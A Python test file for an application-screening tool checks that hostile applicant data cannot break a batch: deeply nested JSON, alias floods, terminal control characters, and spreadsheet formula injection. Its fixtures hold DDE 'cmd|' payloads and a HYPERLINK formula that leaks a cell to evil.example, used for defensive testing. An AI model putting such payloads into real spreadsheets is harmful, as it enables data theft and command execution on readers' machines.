"""Issue 12: one hostile applicant must not stop a batch. Each attack on application.json and on
the people's reports, reproduced on small generated inputs:

1. nesting 100,000 deep (json.loads' RecursionError stopped the batch, exit 2, nothing written);
2. half a million aliases (minutes and hundreds of MB): capped by the call's `application_limits`;
3. control characters (openpyxl refused ESC: no forms) and rich markup (“[/]…[bold” crashed the
   summary) in titles;
4. formula injection (=, +, -, @) in titles, applicant and leader names: live formulas in the
   附件3 forms, raw formula text in summary.csv.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from screening.application import MAX_APPLICATION_BYTES, MAX_DEPTH, load_application, parse_application
from screening.batch_report import csv_cell, render_summary
from screening.calls import call_path, load_call
from screening.errors import ApplicationError, ConfigError
from screening.model import Finding, Report, Severity
from screening.report import one_line, printable, render_text
from tests.conftest import ROOT, Result

LIMITS = load_call().application_limits
DEEP = "[" * 100_000 + "]" * 100_000
CONTROL_TITLE = "柑橘\x1b[31m绿色\x07高效[/]栽培[bold技术\x00\u202e示范"
MARKUP_ID = "QZ-[reverse]9"  # a project id is application text too (the progress bar is markup)
FORMULAS = {"title": '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "applicant": "+1+cmd|' /C calc'!A0",
            "leader": "@SUM(1+1)*cmd|' /C calc'!A0", "member": "-2+3"}


def application(pid: str, **changes: Any) -> dict[str, Any]:
    app: dict[str, Any] = {
        "project_id": pid, "call": "quzhou-2020", "title": "柑橘绿色高效栽培技术集成示范", "category": "key",
        "recommender": "江山市", "submitted_at": "2020-06-20T10:15:00+08:00",
        "applicant": {"name": "衢州绿禾农业开发有限公司", "aliases": ["绿禾农业"], "region": "江山市"},
        "partners": [{"name": "浙江省农业科学院", "aliases": ["省农科院"]}],
        "team": [{"name": "赵德胜", "role": "leader"}, {"name": "孙雨婷", "role": "member"}],
    }
    app.update(changes)
    return app


def many_aliases(count: int) -> dict[str, Any]:
    app = application("QZ-ALIASES")
    app["applicant"]["aliases"] = [f"别名{i:06d}" for i in range(count)]
    return app


def write_project(folder: Path, text: str) -> Path:
    folder.mkdir(parents=True)
    (folder / "application.json").write_text(text, encoding="utf-8")
    return folder


def dumps(app: dict[str, Any]) -> str:
    return json.dumps(app, ensure_ascii=False)


# --- 1. bounded reading: depth and size ------------------------------------------------------------


@pytest.mark.parametrize("text", [DEEP, '{"project_id": ' + "{" * 100_000, "[" * (MAX_DEPTH + 1) + "]" * (MAX_DEPTH + 1)])
def test_deep_json_is_refused_with_a_clear_message(text: str) -> None:
    with pytest.raises(ApplicationError, match=f"JSON嵌套超过{MAX_DEPTH}层，拒绝读取"):
        parse_application(text)


def test_deep_json_inside_strings_is_no_nesting() -> None:
    app = application("QZ-STR", title="[" * 10_000 + "{" * 10_000)
    assert parse_application(dumps(app)).title.startswith("[[[")


def test_a_huge_application_is_refused_before_it_is_read(tmp_path: Path) -> None:
    path = tmp_path / "application.json"
    path.write_text(dumps(application("QZ-BIG", note="x" * MAX_APPLICATION_BYTES)), encoding="utf-8")
    with pytest.raises(ApplicationError, match="文件过大"):
        load_application(path)
    with pytest.raises(ApplicationError, match="文件过大"):
        parse_application(path.read_text(encoding="utf-8"))


def test_project_on_a_deep_application_exits_2_with_one_chinese_line(tmp_path: Path) -> None:
    folder = write_project(tmp_path / "deep", DEEP)
    done = subprocess.run([sys.executable, "-m", "screening", "project", str(folder)],
                          capture_output=True, text=True, timeout=120, cwd=ROOT)
    assert done.returncode == 2
    assert done.stdout == ""
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and "JSON嵌套超过" in lines[0] and "Traceback" not in done.stderr
    assert "RecursionError" not in done.stderr and "内部错误" not in done.stderr


# --- 2. caps from the call file --------------------------------------------------------------------


def test_the_caps_are_in_both_call_files() -> None:
    demo = load_call(str(ROOT / "tests" / "data" / "calls" / "demo-2021.yaml"))
    for call in (load_call(), demo):
        assert call.application_limits.max_aliases >= 5
        assert call.application_limits.max_partners >= 3
        assert call.application_limits.max_team >= 20


@pytest.mark.parametrize(("changes", "message"), [
    ({"applicant": {"name": "衢州绿禾农业开发有限公司", "aliases": [f"别名{i}" for i in range(LIMITS.max_aliases + 1)]}},
     "字段 applicant.aliases: 别名共"),
    ({"partners": [{"name": "浙江省农业科学院", "aliases": [f"别名{i}" for i in range(LIMITS.max_aliases + 1)]}]},
     "字段 partners.0.aliases: 别名共"),
    ({"partners": [{"name": f"合作单位{i}"} for i in range(LIMITS.max_partners + 1)]}, "字段 partners: 合作单位共"),
    ({"team": [{"name": f"成员{i}"} for i in range(LIMITS.max_team + 1)]}, "字段 team: 项目组成员共"),
])
def test_beyond_a_cap_the_application_is_refused(changes: dict[str, Any], message: str) -> None:
    with pytest.raises(ApplicationError, match=message):
        parse_application(dumps(application("QZ-CAP", **changes)))


def test_at_the_caps_the_application_is_read() -> None:
    app = application(
        "QZ-MAX",
        applicant={"name": "衢州绿禾农业开发有限公司", "aliases": [f"别名{i}" for i in range(LIMITS.max_aliases)]},
        partners=[{"name": f"合作单位{i}", "aliases": [f"简称{i}{j}" for j in range(LIMITS.max_aliases)]}
                  for i in range(LIMITS.max_partners)],
        team=[{"name": f"成员{i}"} for i in range(LIMITS.max_team)],
    )
    read = parse_application(dumps(app))
    assert len(read.partners) == LIMITS.max_partners and len(read.team) == LIMITS.max_team


def test_half_a_million_aliases_cost_nothing() -> None:
    text = dumps(many_aliases(60_000))  # under the size limit: refused by the cap, before validation
    assert len(text.encode()) < MAX_APPLICATION_BYTES
    with pytest.raises(ApplicationError, match=f"别名共60000个，超过申报通知允许的上限{LIMITS.max_aliases}个"):
        parse_application(text)
    with pytest.raises(ApplicationError, match="文件过大"):
        parse_application(dumps(many_aliases(500_000)))


def tight_call(tmp_path: Path, limits: str, name: str) -> Path:
    """A copy of quzhou-2020 with other `application_limits` (a new name each: load_call caches)."""
    text = call_path("quzhou-2020").read_text(encoding="utf-8").replace("name: quzhou-2020", f"name: {name}")
    start = text.index("application_limits:")
    end = text.index("\n\n", start)
    path = tmp_path / f"{name}.yaml"
    path.write_text(text[:start] + limits + text[end:], encoding="utf-8")
    return path


def test_the_caps_follow_the_call_and_are_validated(tmp_path: Path) -> None:
    tight = tight_call(tmp_path, "application_limits:\n  max_aliases: 1\n  max_partners: 1\n  max_team: 5", "tight")
    with pytest.raises(ApplicationError, match="上限1个"):
        parse_application(dumps(application("QZ-T", applicant={"name": "某公司", "aliases": ["甲", "乙"]})),
                          call=str(tight))
    typo = tight_call(tmp_path, "application_limits:\n  max_aliases: 1\n  max_partner: 1\n  max_team: 5", "typo")
    with pytest.raises(ConfigError, match=r"application_limits\.max_partner"):
        load_call(str(typo))
    negative = tight_call(tmp_path, "application_limits:\n  max_aliases: 0\n  max_partners: 1\n  max_team: 5", "negative")
    with pytest.raises(ConfigError, match=r"application_limits\.max_aliases"):
        load_call(str(negative))


def test_check_with_too_many_aliases_exits_2(tmp_path: Path, cli: Callable[..., Result]) -> None:
    path = tmp_path / "application.json"
    path.write_text(dumps(many_aliases(LIMITS.max_aliases + 1)), encoding="utf-8")
    attachment = tmp_path / "说明.pdf"
    attachment.write_bytes(b"%PDF-1.4\n")
    result = cli("check", attachment, "--application", path)
    assert result.code == 2 and result.out == ""
    assert len(result.err.strip().splitlines()) == 1 and "别名共" in result.err


@pytest.fixture(scope="module")
def hook() -> Iterator[Any]:
    from fastapi.testclient import TestClient

    from screening.limits import Limits
    from screening.server import create_app

    with TestClient(create_app(Limits(parse_timeout=20, workers=1))) as client:
        yield client


@pytest.mark.parametrize(("text", "detail"), [
    (dumps(many_aliases(LIMITS.max_aliases + 1)), "别名共"),
    (DEEP, "JSON嵌套超过"),
])
def test_the_hook_answers_400(hook: Any, text: str, detail: str) -> None:
    response = hook.post("/v1/screen", files=[("application", ("application.json", text.encode())),
                                              ("files", ("a.pdf", b"%PDF-1.4"))])
    assert response.status_code == 400, response.text
    body = response.json()
    assert body["error"] == "invalid_application" and detail in body["detail"] and "Traceback" not in response.text


# --- 3 and 4. rendering: control characters, markup, formulas --------------------------------------


def test_control_characters_are_removed_line_breaks_kept_where_asked() -> None:
    assert printable("a\x1b[31mb\r\nc\rd\te\x00\x7f\x9b\u202ef") == "a[31mb\nc\nd\tef"
    assert one_line("a\x1b[31mb\r\nc\td\u2028e") == "a[31mb c d e"


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1+1", "' =1+1"),
    ("\r\n=1", "' =1"), (" =1", "' =1"), ("柑橘=1", "柑橘=1"), ("a\x1bb", "ab"), (3, 3),
])
def test_csv_cells_never_start_a_formula(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_project_text_output_never_reads_markup() -> None:
    finding = Finding(rule="identity.org", severity=Severity.FAIL, message="出现“[/]名称[bold”\x1b[2J",
                      file="[/]附件\x1b.docx", matched="[/]\x1b", context=None, evidence=("[/]依据",))
    report = Report("QZ-[/]1", (finding,), title=CONTROL_TITLE)
    out = io.StringIO()
    render_text(report, out)
    text = out.getvalue()
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert "[/]栽培[bold" in text and "QZ-[/]1" in text and "[/]附件" in text and "“[/]名称[bold”" in text


def test_batch_summary_never_reads_markup() -> None:
    summary = {"items": [{"project_id": "[/]QZ", "title": CONTROL_TITLE, "verdict": "review", "status": "screened",
                          "outcome": "ok", "findings": {"fail": 0, "warn": 1, "info": 0}, "batch_rules": []}],
               "verdicts": {"fail": 0, "review": 1, "pass": 0}, "projects": 1, "screened": 1, "resumed": 0,
               "pages": 0, "seconds": 0.1, "skipped": [{"path": "/x/[/]\x1b", "reason": "[bold"}],
               "out": "/out/[/]", "files": ["/out/[/]推荐表-[x].xlsx"]}
    out = io.StringIO()
    render_summary(summary, out)
    text = out.getvalue()
    assert "\x1b" not in text and "[/]QZ" in text and "/out/[/]推荐表-[x].xlsx" in text
    assert "[/]栽培[bold" in text.replace("\n", "").replace("│", "").replace(" ", "")


# --- the whole batch: one hostile applicant of each kind, every report file written -----------------


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, subprocess.CompletedProcess[str]]:
    root = tmp_path_factory.mktemp("hostile")
    folder = root / "batch"
    write_project(folder / "01-clean", dumps(application("QZ-CLEAN")))
    write_project(folder / "02-deep", DEEP)
    write_project(folder / "03-aliases", dumps(many_aliases(60_000)))
    write_project(folder / "04-control", dumps(application(MARKUP_ID, title=CONTROL_TITLE)))
    formulas = application(
        "QZ-FORMULA", title=FORMULAS["title"],
        applicant={"name": FORMULAS["applicant"], "aliases": [], "region": "江山市"},
        team=[{"name": FORMULAS["leader"], "role": "leader"}, {"name": FORMULAS["member"], "role": "member"}],
    )
    write_project(folder / "05-formula", dumps(formulas))
    write_project(folder / "06-call-path", dumps(application("QZ-PATH", call="/dev/zero")))
    out = root / "out"
    done = subprocess.run([sys.executable, "-m", "screening", "batch", str(folder), "--out", str(out), "--workers", "1"],
                          capture_output=True, text=True, timeout=300, cwd=ROOT)
    return out, done


def test_a_hostile_batch_finishes_and_writes_every_file(
        hostile_run: tuple[Path, subprocess.CompletedProcess[str]]) -> None:
    out, done = hostile_run
    assert done.returncode in (1, 3), done.stderr
    assert "Traceback" not in done.stderr and "内部错误" not in done.stderr
    ids = {"QZ-CLEAN", "02-deep", "03-aliases", MARKUP_ID, "QZ-FORMULA", "06-call-path"}
    assert {p.stem for p in out.glob("*.json")} == ids
    assert (out / "summary.csv").is_file() and (out / "report.html").is_file()
    assert (out / "推荐表-江山市.xlsx").is_file()
    for pid, why in (("02-deep", "JSON嵌套超过"), ("03-aliases", "别名共60000个"), ("06-call-path", "不是申报通知的名称")):
        report = json.loads((out / f"{pid}.json").read_text(encoding="utf-8"))
        assert [f["rule"] for f in report["findings"]] == ["document.application"]
        assert why in report["findings"][0]["message"]
    assert json.loads((out / f"{MARKUP_ID}.json").read_text(encoding="utf-8"))["title"] == CONTROL_TITLE  # JSON keeps it


def test_the_terminal_gets_no_control_character_and_no_markup(
        hostile_run: tuple[Path, subprocess.CompletedProcess[str]]) -> None:
    _, done = hostile_run
    for stream in (done.stdout, done.stderr):
        assert "\x1b" not in stream and "\x07" not in stream and "\x00" not in stream and "\u202e" not in stream
    flat = done.stdout.replace("\n", "").replace("│", "").replace(" ", "")
    assert "[/]栽培[bold" in flat and MARKUP_ID in done.stdout
    assert MARKUP_ID in done.stderr or "QZ-FORMULA" in done.stderr  # the progress bar's last project, as text


def test_summary_csv_quotes_formulas_and_drops_controls(hostile_run: tuple[Path, subprocess.CompletedProcess[str]]) -> None:
    out, _ = hostile_run
    raw = (out / "summary.csv").read_text(encoding="utf-8-sig")
    assert "\x1b" not in raw and "\x00" not in raw and "\u202e" not in raw
    rows = {row[0]: row for row in csv.reader(io.StringIO(raw))}
    assert rows["QZ-FORMULA"][1] == "'" + FORMULAS["title"]
    assert rows["QZ-FORMULA"][2] == "'" + FORMULAS["applicant"]
    assert rows[MARKUP_ID][1] == one_line(CONTROL_TITLE)
    for row in rows.values():
        assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in row)


def test_forms_hold_text_never_formulas(hostile_run: tuple[Path, subprocess.CompletedProcess[str]]) -> None:
    out, _ = hostile_run
    book = load_workbook(out / "推荐表-江山市.xlsx")  # on whichever sheet its verdict puts a project
    every = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    cells = {c.value: c for c in every if isinstance(c.value, str)}
    for text in (FORMULAS["title"], FORMULAS["applicant"], FORMULAS["leader"], one_line(CONTROL_TITLE)):
        assert text in cells and cells[text].data_type == "s"
    assert not any(c.data_type == "f" for c in every)


def test_html_escapes_and_drops_controls(hostile_run: tuple[Path, subprocess.CompletedProcess[str]]) -> None:
    out, _ = hostile_run
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "\x1b" not in page and "\x00" not in page and "\x07" not in page and "\u202e" not in page
    assert html_escaped(printable(CONTROL_TITLE)) in page
    assert html_escaped(FORMULAS["title"]) in page


def html_escaped(text: str) -> str:
    import html

    return html.escape(text, quote=True)
